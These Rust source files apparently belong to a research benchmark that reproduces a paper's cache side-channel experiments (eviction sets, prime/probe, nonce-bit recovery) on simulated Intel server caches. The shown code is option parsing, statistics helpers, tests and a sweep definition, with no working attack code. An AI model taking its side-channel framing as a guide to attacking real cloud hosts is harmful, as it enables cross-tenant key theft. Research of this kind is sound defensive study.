/// The full-size 28-slice Cloud Run host (Table 2).
pub fn full_skylake() -> CacheSpec {
    CacheSpec::skylake_sp_cloud()
}

/// The pinned 4-slice host used by `--smoke` runs. Deliberately ignores
/// `LLC_SLICES` so that smoke output is bit-stable regardless of the
/// caller's environment (the golden files depend on it).
pub fn smoke_skylake() -> CacheSpec {
    CacheSpec::skylake_sp(4, 4)
}

/// Command-line options shared by every experiment binary.
///
/// All 11 binaries accept `--threads N` (worker threads of the `llc-fleet`
/// executor; `LLC_THREADS` or the machine's parallelism when omitted),
/// `--smoke` (small pinned trial counts with environment-independent,
/// thread-count-independent output, for CI and the golden tests) and
/// `--noise-fidelity exact|aggregate` (`LLC_NOISE_FIDELITY` when omitted;
/// selects the noise-model fidelity of the harnesses that honour it).
#[derive(Debug, Clone)]
pub struct RunOpts {
    /// Worker threads for the trial executor.
    pub threads: usize,
    /// Run the pinned smoke configuration.
    pub smoke: bool,
    /// Noise-model fidelity for the harnesses that honour it (tables 3/4
    /// single-set cells, the Step 4 campaign and the AES leak).
    pub fidelity: NoiseFidelity,
    /// Inclusion policy of the simulated hierarchy (`--inclusion`,
    /// `LLC_INCLUSION`; default non-inclusive, the paper's protocol).
    pub inclusion: InclusionPolicy,
    /// Slice-hash selection (`--slice-hash`, `LLC_SLICE_HASH`).
    pub slice_hash: SliceHashSelect,
    /// Replacement-policy override for every cache level (`--replacement`,
    /// `LLC_REPLACEMENT`; `None` keeps each preset's own policies).
    pub replacement: Option<ReplacementKind>,
    /// Reuse-predictor insertion probability (`LLC_REUSE_P`). Non-zero
    /// values force per-event noise dispatch; report headers show the
    /// effective fidelity.
    pub reuse_insert_probability: f64,
    /// Background tenant population co-resident with the attacker/victim
    /// pair (`--tenants`, `LLC_TENANTS`; e.g. `2*idle,1*bursty-web`).
    /// Empty (the default) is the legacy single-attacker/single-victim host.
    pub tenants: TenantPopulation,
    /// Mean tenant dwell time in milliseconds for churn
    /// (`--churn`, `LLC_CHURN_MS`; 0 disables churn, the default).
    pub churn_dwell_ms: f64,
    /// Per-trial retry budget of the campaign driver (`--retries`,
    /// `LLC_RETRIES`; `None` keeps the driver's default of 2). A panicking
    /// trial is re-run with its same derived seed this many times before it
    /// quarantines.
    pub retries: Option<u32>,
}

impl Default for RunOpts {
    /// Reads the `LLC_*` environment.
    ///
    /// # Panics
    ///
    /// Panics when `LLC_TENANTS` or `LLC_CHURN_MS` is set but unparseable —
    /// a typo'd population spec must not silently run the legacy tenant-free
    /// host (the binaries report the error through [`RunOpts::parse`]'s
    /// usage path instead of panicking).
    fn default() -> Self {
        Self::from_env().unwrap_or_else(|msg| panic!("{msg}"))
    }
}

impl RunOpts {
    /// Reads options from the `LLC_*` environment. Unset variables take
    /// their defaults; a set-but-unparseable `LLC_TENANTS` or `LLC_CHURN_MS`
    /// is an error (the same vocabulary as `--tenants`/`--churn`).
    pub fn from_env() -> Result<Self, String> {
        Self::from_env_values(
            std::env::var("LLC_TENANTS").ok().as_deref(),
            std::env::var("LLC_CHURN_MS").ok().as_deref(),
        )
    }

    /// Value-level core of [`RunOpts::from_env`]: `tenants`/`churn` are the
    /// `LLC_TENANTS`/`LLC_CHURN_MS` values when set.
    fn from_env_values(tenants: Option<&str>, churn: Option<&str>) -> Result<Self, String> {
        let fidelity = std::env::var("LLC_NOISE_FIDELITY")
            .ok()
            .and_then(|v| NoiseFidelity::parse(&v))
            .unwrap_or_default();
        let inclusion = std::env::var("LLC_INCLUSION")
            .ok()
            .and_then(|v| InclusionPolicy::parse(&v))
            .unwrap_or_default();
        let slice_hash = std::env::var("LLC_SLICE_HASH")
            .ok()
            .and_then(|v| SliceHashSelect::parse(&v))
            .unwrap_or_default();
        let replacement =
            std::env::var("LLC_REPLACEMENT").ok().and_then(|v| ReplacementKind::parse(&v));
        let reuse_insert_probability = std::env::var("LLC_REUSE_P")
            .ok()
            .and_then(|v| v.parse::<f64>().ok())
            .filter(|p| (0.0..=1.0).contains(p))
            .unwrap_or(0.0);
        let tenants = match tenants {
            Some(v) => parse_tenants("LLC_TENANTS", v)?,
            None => TenantPopulation::empty(),
        };
        let churn_dwell_ms = match churn {
            Some(v) => parse_churn("LLC_CHURN_MS", v)?,
            None => 0.0,
        };
        let retries = match std::env::var("LLC_RETRIES").ok() {
            Some(v) => Some(parse_retries("LLC_RETRIES", &v)?),
            None => None,
        };
        Ok(Self {
            threads: llc_fleet::default_threads(),
            smoke: false,
            fidelity,
            inclusion,
            slice_hash,
            replacement,
            reuse_insert_probability,
            tenants,
            churn_dwell_ms,
            retries,
        })
    }

    /// Parses `std::env::args`, exiting with a usage message on bad input.
    pub fn parse() -> Self {
        match Self::from_args(std::env::args().skip(1)) {
            Ok(opts) => opts,
            Err(msg) => {
                eprintln!("{msg}");
                eprintln!(
                    "usage: <experiment> [--threads N] [--noise-fidelity exact|aggregate] \
                     [--inclusion non-inclusive|inclusive|exclusive] \
                     [--slice-hash xor-fold|modulo] \
                     [--replacement lru|tree-plru|qlru|srrip|random] \
                     [--tenants SPEC] [--churn MS] [--retries N] [--smoke]"
                );
                std::process::exit(2);
            }
        }
    }

    /// Parses an explicit argument list (testable core of [`RunOpts::parse`];
    /// named to avoid colliding with `FromIterator::from_iter`).
    pub fn from_args<I, S>(args: I) -> Result<Self, String>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut opts = Self::from_env()?;
        let mut iter = args.into_iter();
        while let Some(arg) = iter.next() {
            let arg = arg.as_ref();
            if arg == "--smoke" {
                opts.smoke = true;
            } else if arg == "--threads" {
                let v = iter.next().ok_or("--threads requires a value")?;
                opts.threads = parse_threads(v.as_ref())?;
            } else if let Some(v) = arg.strip_prefix("--threads=") {
                opts.threads = parse_threads(v)?;
            } else if arg == "--noise-fidelity" {
                let v = iter.next().ok_or("--noise-fidelity requires a value")?;
                opts.fidelity = parse_fidelity(v.as_ref())?;
            } else if let Some(v) = arg.strip_prefix("--noise-fidelity=") {
                opts.fidelity = parse_fidelity(v)?;
            } else if arg == "--inclusion" {
                let v = iter.next().ok_or("--inclusion requires a value")?;
                opts.inclusion = parse_inclusion(v.as_ref())?;
            } else if let Some(v) = arg.strip_prefix("--inclusion=") {
                opts.inclusion = parse_inclusion(v)?;
            } else if arg == "--slice-hash" {
                let v = iter.next().ok_or("--slice-hash requires a value")?;
                opts.slice_hash = parse_slice_hash(v.as_ref())?;
            } else if let Some(v) = arg.strip_prefix("--slice-hash=") {
                opts.slice_hash = parse_slice_hash(v)?;
            } else if arg == "--replacement" {
                let v = iter.next().ok_or("--replacement requires a value")?;
                opts.replacement = Some(parse_replacement(v.as_ref())?);
            } else if let Some(v) = arg.strip_prefix("--replacement=") {
                opts.replacement = Some(parse_replacement(v)?);
            } else if arg == "--tenants" {
                let v = iter.next().ok_or("--tenants requires a value")?;
                opts.tenants = parse_tenants("--tenants", v.as_ref())?;
            } else if let Some(v) = arg.strip_prefix("--tenants=") {
                opts.tenants = parse_tenants("--tenants", v)?;
            } else if arg == "--churn" {
                let v = iter.next().ok_or("--churn requires a value")?;
                opts.churn_dwell_ms = parse_churn("--churn", v.as_ref())?;
            } else if let Some(v) = arg.strip_prefix("--churn=") {
                opts.churn_dwell_ms = parse_churn("--churn", v)?;
            } else if arg == "--retries" {
                let v = iter.next().ok_or("--retries requires a value")?;
                opts.retries = Some(parse_retries("--retries", v.as_ref())?);
            } else if let Some(v) = arg.strip_prefix("--retries=") {
                opts.retries = Some(parse_retries("--retries", v)?);
            } else {
                return Err(format!("unknown argument: {arg}"));
            }
        }
        Ok(opts)
    }

    /// A smoke-mode options value (used by the golden tests). Pins `exact`
    /// fidelity and the default hierarchy composition regardless of the
    /// `LLC_*` environment, so the exact golden files stay
    /// environment-independent; combine with [`RunOpts::with_fidelity`] for
    /// the aggregate goldens.
    pub fn smoke_with_threads(threads: usize) -> Self {
        Self {
            threads,
            smoke: true,
            fidelity: NoiseFidelity::Exact,
            inclusion: InclusionPolicy::default(),
            slice_hash: SliceHashSelect::default(),
            replacement: None,
            reuse_insert_probability: 0.0,
            tenants: TenantPopulation::empty(),
            churn_dwell_ms: 0.0,
            retries: None,
        }
    }

    /// Returns these options with the given tenant population spec (see
    /// [`TenantPopulation::parse`]); used by the co-residency goldens.
    ///
    /// # Panics
    ///
    /// Panics on an unparseable spec.
    pub fn with_tenants(mut self, spec: &str) -> Self {
        self.tenants =
            TenantPopulation::parse(spec).unwrap_or_else(|| panic!("bad tenant spec {spec:?}"));
        self
    }

    /// Returns these options with the given noise fidelity.
    pub fn with_fidelity(mut self, fidelity: NoiseFidelity) -> Self {
        self.fidelity = fidelity;
        self
    }

    /// The trial executor these options select.
    pub fn fleet(&self) -> Fleet {
        Fleet::new(self.threads)
    }

    /// Trials per configuration: the pinned `smoke` count in smoke mode,
    /// otherwise `LLC_TRIALS` with the experiment's `default`.
    pub fn trials(&self, smoke: usize, default: usize) -> usize {
        if self.smoke {
            smoke
        } else {
            trials(default)
        }
    }

    /// The host specification: the pinned 4-slice host in smoke mode,
    /// otherwise the `LLC_SLICES`-scaled host — with the hierarchy
    /// composition knobs applied either way.
    pub fn spec(&self) -> CacheSpec {
        let base = if self.smoke { smoke_skylake() } else { scaled_skylake() };
        self.configure(base)
    }

    /// Applies the hierarchy-composition knobs to a host spec. Non-default
    /// choices are appended to the spec name so report headers identify the
    /// scenario; the default composition leaves the spec (and therefore
    /// every golden header) untouched.
    pub fn configure(&self, mut spec: CacheSpec) -> CacheSpec {
        if self.inclusion != InclusionPolicy::default() {
            spec = spec.with_inclusion(self.inclusion);
            spec.name = format!("{} [{}]", spec.name, self.inclusion.label());
        }
        if self.slice_hash != SliceHashSelect::default() {
            let label = self.slice_hash.label();
            spec = spec.with_slice_hash_select(self.slice_hash.clone());
            spec.name = format!("{} [slice hash: {label}]", spec.name);
        }
        if let Some(kind) = self.replacement {
            spec = spec.with_replacement(kind);
            spec.name = format!("{} [replacement: {}]", spec.name, kind.label());
        }
        spec
    }

    /// Machine-level hierarchy options these options select.
    pub fn hierarchy_options(&self) -> HierarchyOptions {
        HierarchyOptions { reuse_insert_probability: self.reuse_insert_probability }
    }

    /// The background tenant population these options select, with the
    /// `--churn` dwell time converted from milliseconds to cycles at the
    /// given core frequency (pass `spec.freq_ghz`). Churn without tenants
    /// is meaningless and is ignored.
    pub fn tenant_population(&self, freq_ghz: f64) -> TenantPopulation {
        let mut tenants = self.tenants.clone();
        if self.churn_dwell_ms > 0.0 && !tenants.is_empty() {
            tenants.churn =
                Some(ChurnConfig { mean_dwell_cycles: self.churn_dwell_ms * freq_ghz * 1e6 });
        }
        tenants
    }

    /// The *effective* noise fidelity of machines built with these options,
    /// answered by the machine layer itself (a hierarchy with an active
    /// reuse predictor dispatches noise per-event even in aggregate mode).
    pub fn effective_fidelity(&self) -> NoiseFidelity {
        Machine::builder(CacheSpec::tiny_test())
            .noise_fidelity(self.fidelity)
            .hierarchy_options(self.hierarchy_options())
            .build()
            .effective_noise_fidelity()
    }
}

fn parse_threads(v: &str) -> Result<usize, String> {
    v.parse::<usize>()
        .ok()
        .filter(|&n| n > 0)
        .ok_or_else(|| format!("--threads expects a positive integer, got {v:?}"))
}

fn parse_fidelity(v: &str) -> Result<NoiseFidelity, String> {
    NoiseFidelity::parse(v)
        .ok_or_else(|| format!("--noise-fidelity expects 'exact' or 'aggregate', got {v:?}"))
}

fn parse_inclusion(v: &str) -> Result<InclusionPolicy, String> {
    InclusionPolicy::parse(v).ok_or_else(|| {
        format!("--inclusion expects 'non-inclusive', 'inclusive' or 'exclusive', got {v:?}")
    })
}

fn parse_slice_hash(v: &str) -> Result<SliceHashSelect, String> {
    SliceHashSelect::parse(v)
        .ok_or_else(|| format!("--slice-hash expects 'xor-fold' or 'modulo', got {v:?}"))
}

fn parse_replacement(v: &str) -> Result<ReplacementKind, String> {
    ReplacementKind::parse(v).ok_or_else(|| {
        format!("--replacement expects 'lru', 'tree-plru', 'qlru', 'srrip' or 'random', got {v:?}")
    })
}

/// Parses a tenant-population spec for `what` (`--tenants` or
/// `LLC_TENANTS`), so an invalid spec fails loudly instead of silently
/// running the legacy tenant-free host.
fn parse_tenants(what: &str, v: &str) -> Result<TenantPopulation, String> {
    TenantPopulation::parse(v).ok_or_else(|| {
        format!(
            "{what} expects up to {} entries like '2*idle,1*bursty-web' \
             (kinds: idle, bursty-web, batch-scan), got {v:?}",
            TenantPopulation::MAX_TENANTS
        )
    })
}

/// Parses a churn dwell time for `what` (`--churn` or `LLC_CHURN_MS`).
fn parse_churn(what: &str, v: &str) -> Result<f64, String> {
    v.parse::<f64>()
        .ok()
        .filter(|ms| *ms >= 0.0 && ms.is_finite())
        .ok_or_else(|| format!("{what} expects a non-negative dwell time in ms, got {v:?}"))
}

/// Parses a retry budget for `what` (`--retries` or `LLC_RETRIES`). Zero is
/// legal: it quarantines on the first panic.
fn parse_retries(what: &str, v: &str) -> Result<u32, String> {
    v.parse::<u32>()
        .map_err(|_| format!("{what} expects a non-negative retry count, got {v:?}"))
}

/// Formats a fraction as a percentage with one decimal.
pub fn pct(x: f64) -> String {
    format!("{:.1}%", 100.0 * x)
}

/// Formats a cycle count as milliseconds at the given frequency.
pub fn cycles_to_ms(cycles: f64, freq_ghz: f64) -> f64 {
    cycles / (freq_ghz * 1e6)
}

/// Simple statistics over a sample of cycle counts.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct SampleStats {
    /// Arithmetic mean.
    pub mean: f64,
    /// Standard deviation.
    pub std_dev: f64,
    /// Median.
    pub median: f64,
}

impl SampleStats {
    /// Converts an `llc-fleet` [`Summary`] (whose mean/σ/median are folded in
    /// canonical trial order and therefore thread-count-independent).
    pub fn from_summary(s: Summary) -> Self {
        Self { mean: s.mean, std_dev: s.std_dev, median: s.median }
    }

    /// Computes mean, standard deviation and median of `values`.
    pub fn from(values: &[f64]) -> Self {
        if values.is_empty() {
            return Self::default();
        }
        let mean = values.iter().sum::<f64>() / values.len() as f64;
        let var = values.iter().map(|v| (v - mean) * (v - mean)).sum::<f64>() / values.len() as f64;
        let mut sorted = values.to_vec();
        sorted.sort_by(|a, b| a.partial_cmp(b).expect("finite"));
        Self { mean, std_dev: var.sqrt(), median: sorted[sorted.len() / 2] }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sample_stats_basics() {
        let s = SampleStats::from(&[1.0, 2.0, 3.0, 4.0, 100.0]);
        assert_eq!(s.median, 3.0);
        assert!(s.mean > 3.0);
        assert!(s.std_dev > 10.0);
        assert_eq!(SampleStats::from(&[]), SampleStats::default());
    }

    #[test]
    fn env_defaults_apply() {
        assert_eq!(env_usize("LLC_THIS_VAR_DOES_NOT_EXIST", 7), 7);
        assert_eq!(trials(5), trials(5));
    }

    #[test]
    fn formatting_helpers() {
        assert_eq!(pct(0.123), "12.3%");
        assert!((cycles_to_ms(2_000_000.0, 2.0) - 1.0).abs() < 1e-9);
    }

    #[test]
    fn run_opts_parse_forms() {
        let o = RunOpts::from_args(["--threads", "4", "--smoke"]).unwrap();
        assert_eq!(o.threads, 4);
        assert!(o.smoke);
        let o = RunOpts::from_args(["--threads=2"]).unwrap();
        assert_eq!(o.threads, 2);
        assert!(!o.smoke);
        assert!(RunOpts::from_args(["--bogus"]).is_err());
        assert!(RunOpts::from_args(["--threads", "0"]).is_err());
        assert!(RunOpts::from_args(["--threads"]).is_err());
        assert!(RunOpts::from_args(Vec::<String>::new()).unwrap().threads >= 1);
    }

    #[test]
    fn run_opts_parse_fidelity_forms() {
        let o = RunOpts::from_args(["--noise-fidelity", "aggregate"]).unwrap();
        assert_eq!(o.fidelity, NoiseFidelity::Aggregate);
        let o = RunOpts::from_args(["--noise-fidelity=exact"]).unwrap();
        assert_eq!(o.fidelity, NoiseFidelity::Exact);
        assert!(RunOpts::from_args(["--noise-fidelity", "sloppy"]).is_err());
        assert!(RunOpts::from_args(["--noise-fidelity"]).is_err());
        // The golden-test constructor pins exact and opts back in explicitly.
        let o = RunOpts::smoke_with_threads(2);
        assert_eq!(o.fidelity, NoiseFidelity::Exact);
        assert_eq!(o.with_fidelity(NoiseFidelity::Aggregate).fidelity, NoiseFidelity::Aggregate);
    }

    #[test]
    fn run_opts_parse_hierarchy_forms() {
        let o = RunOpts::from_args(["--inclusion", "inclusive", "--slice-hash=modulo"]).unwrap();
        assert_eq!(o.inclusion, InclusionPolicy::Inclusive);
        assert_eq!(o.slice_hash, SliceHashSelect::Modulo);
        let o = RunOpts::from_args(["--inclusion=x", "--replacement", "srrip"]).unwrap();
        assert_eq!(o.inclusion, InclusionPolicy::Exclusive);
        assert_eq!(o.replacement, Some(ReplacementKind::Srrip));
        assert!(RunOpts::from_args(["--inclusion", "sideways"]).is_err());
        assert!(RunOpts::from_args(["--slice-hash", "crc"]).is_err());
        assert!(RunOpts::from_args(["--replacement=fifo"]).is_err());
    }

    #[test]
    fn configure_tags_non_default_scenarios_only() {
        let default = RunOpts::smoke_with_threads(1);
        assert_eq!(default.spec().name, smoke_skylake().name);
        assert_eq!(default.spec(), smoke_skylake());

        let scenario = RunOpts {
            inclusion: InclusionPolicy::Inclusive,
            slice_hash: SliceHashSelect::Modulo,
            replacement: Some(ReplacementKind::Srrip),
            ..RunOpts::smoke_with_threads(1)
        };
        let spec = scenario.spec();
        assert_eq!(spec.hierarchy.inclusion, InclusionPolicy::Inclusive);
        assert_eq!(spec.hierarchy.slice_hash, SliceHashSelect::Modulo);
        assert_eq!(spec.private_replacement, ReplacementKind::Srrip);
        assert_eq!(spec.shared_replacement, ReplacementKind::Srrip);
        assert!(spec.name.contains("[inclusive]"), "name: {}", spec.name);
        assert!(spec.name.contains("[slice hash: modulo]"), "name: {}", spec.name);
        assert!(spec.name.contains("[replacement: srrip]"), "name: {}", spec.name);
    }

    #[test]
    fn run_opts_parse_tenant_forms() {
        let o = RunOpts::from_args(["--tenants", "2*idle,1*bursty-web", "--churn", "5"]).unwrap();
        assert_eq!(o.tenants.label(), "2*idle+1*bursty-web");
        assert_eq!(o.churn_dwell_ms, 5.0);
        let o = RunOpts::from_args(["--tenants=batch-scan", "--churn=0"]).unwrap();
        assert_eq!(o.tenants.len(), 1);
        assert_eq!(o.churn_dwell_ms, 0.0);
        assert!(RunOpts::from_args(["--tenants", "3*webscale"]).is_err());
        assert!(RunOpts::from_args(["--churn", "-1"]).is_err());
        assert!(RunOpts::from_args(["--tenants"]).is_err());
        // Smoke pins the legacy empty population.
        assert!(RunOpts::smoke_with_threads(2).tenants.is_empty());
    }

    #[test]
    fn env_tenant_values_fail_loudly_when_unparseable() {
        // The value-level core of `from_env`: a typo'd spec is an error, not
        // a silent fallback to the tenant-free legacy host.
        assert!(RunOpts::from_env_values(Some("3*webscale"), None).is_err());
        assert!(RunOpts::from_env_values(Some("999999999999*idle"), None).is_err());
        assert!(RunOpts::from_env_values(None, Some("fast")).is_err());
        assert!(RunOpts::from_env_values(None, Some("-2")).is_err());
        let o = RunOpts::from_env_values(Some("2*idle"), Some("5")).unwrap();
        assert_eq!(o.tenants.label(), "2*idle");
        assert_eq!(o.churn_dwell_ms, 5.0);
        assert!(RunOpts::from_env_values(None, None).unwrap().tenants.is_empty());
    }

    #[test]
    fn tenant_population_converts_churn_to_cycles() {
        let o = RunOpts::from_args(["--tenants", "idle", "--churn", "2"]).unwrap();
        let pop = o.tenant_population(2.0);
        assert_eq!(pop.churn.map(|c| c.mean_dwell_cycles), Some(4_000_000.0));
        // Churn without tenants is ignored.
        let o = RunOpts::from_args(["--churn", "2"]).unwrap();
        assert!(o.tenant_population(2.0).churn.is_none());
        // No churn flag → static population.
        let o = RunOpts::from_args(["--tenants", "idle"]).unwrap();
        assert!(o.tenant_population(2.0).churn.is_none());
    }

    #[test]
    fn run_opts_parse_retry_forms() {
        let o = RunOpts::from_args(["--retries", "5"]).unwrap();
        assert_eq!(o.retries, Some(5));
        let o = RunOpts::from_args(["--retries=0"]).unwrap();
        assert_eq!(o.retries, Some(0));
        assert!(RunOpts::from_args(["--retries", "-1"]).is_err());
        assert!(RunOpts::from_args(["--retries", "lots"]).is_err());
        assert!(RunOpts::from_args(["--retries"]).is_err());
        // Smoke keeps the driver default so golden runs exercise the
        // production retry path unchanged.
        assert_eq!(RunOpts::smoke_with_threads(2).retries, None);
    }

    #[test]
    fn effective_fidelity_reflects_the_reuse_predictor() {
        let clean =
            RunOpts::smoke_with_threads(1).with_fidelity(NoiseFidelity::Aggregate);
        assert_eq!(clean.effective_fidelity(), NoiseFidelity::Aggregate);
        let degraded = RunOpts { reuse_insert_probability: 0.5, ..clean };
        assert_eq!(degraded.effective_fidelity(), NoiseFidelity::Exact);
        assert_eq!(degraded.hierarchy_options().reuse_insert_probability, 0.5);
    }

    #[test]
    fn smoke_spec_is_env_independent() {
        let o = RunOpts::smoke_with_threads(1);
        assert_eq!(o.spec().sf.num_slices(), 4);
        assert_eq!(o.trials(2, 100), 2);
        let loud = RunOpts { smoke: false, ..RunOpts::smoke_with_threads(1) };
        assert_eq!(loud.trials(2, 100), trials(100));
    }

    #[test]
    fn sample_stats_from_summary_round_trips() {
        let mut samples = llc_fleet::Samples::default();
        for (t, v) in [(0u64, 1.0), (1, 3.0), (2, 5.0)] {
            use llc_fleet::Aggregate;
            samples.record(t, v);
        }
        let stats = SampleStats::from_summary(samples.summary());
        let direct = SampleStats::from(&[1.0, 3.0, 5.0]);
        assert_eq!(stats, direct);
    }

    #[test]
    fn scaled_skylake_preserves_per_slice_geometry() {
        let scaled = scaled_skylake();
        let full = full_skylake();
        assert_eq!(scaled.sf.ways(), full.sf.ways());
        assert_eq!(scaled.l2, full.l2);
        assert!(scaled.sf.num_slices() <= full.sf.num_slices());
    }
}
