//! # llc-bench
//!
//! Experiment harnesses that regenerate every table and figure of the
//! paper's evaluation on the simulated Skylake-SP / Ice Lake-SP hosts.
//! Each experiment is available both as a library function (used by the
//! Criterion benches under `benches/`) and as a runnable binary under
//! `src/bin/` that prints the corresponding table rows.
//!
//! | Target | Reproduces |
//! |---|---|
//! | `table3` | Table 3 — existing pruning algorithms, local vs Cloud Run |
//! | `table4` | Table 4 — candidate filtering + BinS, SingleSet/PageOffset/WholeSys |
//! | `table5` | Table 5 — prime/probe latencies of PS-Flush, PS-Alt, Parallel |
//! | `table6` | Table 6 — PSD-based target-set identification |
//! | `fig2`   | Figure 2 — CDF of background LLC accesses |
//! | `fig3`   | Figure 3 — parallel vs sequential TestEviction duration |
//! | `fig6`   | Figure 6 — detection rate vs access interval |
//! | `fig7`   | Figure 7 — PSD of target vs non-target set |
//! | `fig9`   | Figure 9 — decoded access trace vs ground-truth nonce bits |
//! | `icelake` | Section 5.3.2 — Skylake-SP vs Ice Lake-SP associativity |
//! | `end_to_end` | Section 7.3 — median nonce bits recovered, error rate, time |
//!
//! ## Scaling knobs
//!
//! The paper's measurement campaign covers tens of thousands of trials on
//! 28-slice machines; by default the harnesses run scaled-down versions that
//! finish in seconds to minutes. Two environment variables control scale:
//!
//! * `LLC_TRIALS` — trials per configuration (default: experiment-specific);
//! * `LLC_SLICES` — number of LLC/SF slices of the simulated Skylake-SP
//!   (default 8 for bulk experiments; set 28 for the paper's geometry).

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod experiments;

use llc_cache_model::CacheSpec;

/// Reads a positive integer from the environment, with a default.
pub fn env_usize(name: &str, default: usize) -> usize {
    std::env::var(name).ok().and_then(|v| v.parse().ok()).filter(|&v| v > 0).unwrap_or(default)
}

/// Number of trials per experiment configuration (`LLC_TRIALS`).
pub fn trials(default: usize) -> usize {
    env_usize("LLC_TRIALS", default)
}

/// The simulated Skylake-SP used by the heavier experiments: the real 28
/// slices are expensive to simulate, so bulk experiments default to a scaled
/// host (`LLC_SLICES`, default 8) with identical per-slice geometry. The
/// cache-uncertainty structure (and therefore the algorithms' behaviour) is
/// unchanged; only the number of sets to cover shrinks.
pub fn scaled_skylake() -> CacheSpec {
    CacheSpec::skylake_sp(env_usize("LLC_SLICES", 8), 4)
}

/// The full-size 28-slice Cloud Run host (Table 2).
pub fn full_skylake() -> CacheSpec {
    CacheSpec::skylake_sp_cloud()
}

/// Formats a fraction as a percentage with one decimal.
pub fn pct(x: f64) -> String {
    format!("{:.1}%", 100.0 * x)
}

/// Formats a cycle count as milliseconds at the given frequency.
pub fn cycles_to_ms(cycles: f64, freq_ghz: f64) -> f64 {
    cycles / (freq_ghz * 1e6)
}

/// Simple statistics over a sample of cycle counts.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct SampleStats {
    /// Arithmetic mean.
    pub mean: f64,
    /// Standard deviation.
    pub std_dev: f64,
    /// Median.
    pub median: f64,
}

impl SampleStats {
    /// Computes mean, standard deviation and median of `values`.
    pub fn from(values: &[f64]) -> Self {
        if values.is_empty() {
            return Self::default();
        }
        let mean = values.iter().sum::<f64>() / values.len() as f64;
        let var = values.iter().map(|v| (v - mean) * (v - mean)).sum::<f64>() / values.len() as f64;
        let mut sorted = values.to_vec();
        sorted.sort_by(|a, b| a.partial_cmp(b).expect("finite"));
        Self { mean, std_dev: var.sqrt(), median: sorted[sorted.len() / 2] }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sample_stats_basics() {
        let s = SampleStats::from(&[1.0, 2.0, 3.0, 4.0, 100.0]);
        assert_eq!(s.median, 3.0);
        assert!(s.mean > 3.0);
        assert!(s.std_dev > 10.0);
        assert_eq!(SampleStats::from(&[]), SampleStats::default());
    }

    #[test]
    fn env_defaults_apply() {
        assert_eq!(env_usize("LLC_THIS_VAR_DOES_NOT_EXIST", 7), 7);
        assert_eq!(trials(5), trials(5));
    }

    #[test]
    fn formatting_helpers() {
        assert_eq!(pct(0.123), "12.3%");
        assert!((cycles_to_ms(2_000_000.0, 2.0) - 1.0).abs() < 1e-9);
    }

    #[test]
    fn scaled_skylake_preserves_per_slice_geometry() {
        let scaled = scaled_skylake();
        let full = full_skylake();
        assert_eq!(scaled.sf.ways(), full.sf.ways());
        assert_eq!(scaled.l2, full.l2);
        assert!(scaled.sf.num_slices() <= full.sf.num_slices());
    }
}
