//! Campaign presets: the pruning experiments expressed as `llc-campaign`
//! sweep cells over one shared machine pool.
//!
//! The per-table binaries each render one slice of the parameter space; the
//! `campaign` binary instead flattens an N-dimensional grid — hierarchy
//! scenario × noise level × algorithm — into a single resumable trial
//! stream. [`PruningSweep`] is the [`TrialSource`] behind it: every cell is
//! one `(machine configuration, algorithm)` pair, workers keep the machine
//! of the cell they are currently streaming checked out of a shared
//! [`MachinePool`], and consecutive trials of the same configuration pay
//! only a snapshot rewind, never a rebuild — even across cells, because the
//! pool key hashes the machine configuration and *not* the algorithm.
//!
//! Determinism matches the per-table harnesses: one canonical build seed per
//! campaign (derived from the campaign master seed), per-trial noise and
//! allocation streams derived from the trial's grid coordinates, and integer
//! metrics so the campaign layer's exact aggregation applies.

use crate::experiments::{trial_streams, Environment};
use crate::RunOpts;
use llc_campaign::{
    CampaignSpec, CellAggregate, CellSpec, QuarantineRecord, TrialOutcome, TrialSource,
};
use llc_cache_model::{
    CacheSpec, HierarchyOptions, InclusionPolicy, ReplacementKind, SliceHashSelect,
};
use llc_evsets::{oracle, EvsetBuilder, EvsetConfig, TargetCache};
use llc_fleet::{stream_seed, TrialCtx};
use llc_machine::{
    ChurnConfig, Machine, MachinePool, NoiseFidelity, NoiseModel, PooledMachine, TenantPopulation,
    WorkloadKind,
};
use llc_core::Algorithm;
use std::sync::Arc;

/// The integer metrics every sweep trial reports, in declaration order.
pub const SWEEP_METRICS: [&str; 3] = ["total_cycles", "backtracks", "filter_cycles"];

/// One cell of a pruning sweep: a fully configured machine plus the
/// algorithm to run on it.
#[derive(Debug, Clone)]
pub struct SweepCell {
    /// Stable cell identifier (rendered in reports, hashed into the
    /// campaign fingerprint).
    pub id: String,
    /// Fully configured host spec (hierarchy scenario already applied).
    pub spec: CacheSpec,
    /// Background-noise model of the cell.
    pub noise: NoiseModel,
    /// Pruning algorithm under test.
    pub algorithm: Algorithm,
    /// Candidate filtering on (Table 4 protocol) or off (Table 3 protocol).
    pub filtering: bool,
    /// Background tenant population co-resident on the cell's host (empty
    /// for the single-attacker/single-victim cells of the pruning sweeps).
    pub tenants: TenantPopulation,
}

/// A resumable pruning sweep: cells × trials streamed through one shared
/// machine pool. Implements [`TrialSource`] for [`llc_campaign::Campaign`].
#[derive(Debug)]
pub struct PruningSweep {
    cells: Vec<SweepCell>,
    fidelity: NoiseFidelity,
    hierarchy: HierarchyOptions,
    /// Canonical build seed shared by every cell, so cells that share a
    /// machine configuration share pool keys (and therefore machines).
    build_seed: u64,
    /// Per-trial virtual-time watchdog: when set, every trial arms the
    /// machine's budget so a runaway trial panics deterministically (and
    /// the campaign layer quarantines it) instead of spinning forever.
    trial_budget: Option<u64>,
    pool: Arc<MachinePool>,
}

impl PruningSweep {
    /// Builds the sweep source. `master_seed` must be the campaign's master
    /// seed: the canonical machine build seed derives from it, so two runs
    /// of the same campaign construct byte-identical machines.
    pub fn new(
        cells: Vec<SweepCell>,
        fidelity: NoiseFidelity,
        hierarchy: HierarchyOptions,
        master_seed: u64,
    ) -> Self {
        Self {
            cells,
            fidelity,
            hierarchy,
            build_seed: stream_seed(master_seed, trial_streams::MACHINE),
            trial_budget: None,
            pool: MachinePool::new(),
        }
    }

    /// Arms a per-trial virtual-time budget (in simulated cycles). The
    /// budget is checked at the machine's single clock-advance choke point,
    /// so overrunning trials panic with a deterministic message — identical
    /// on every retry — and end up quarantined rather than hanging a worker.
    pub fn with_trial_budget(mut self, budget: Option<u64>) -> Self {
        self.trial_budget = budget;
        self
    }

    /// The sweep's cells, in campaign cell order.
    pub fn cells(&self) -> &[SweepCell] {
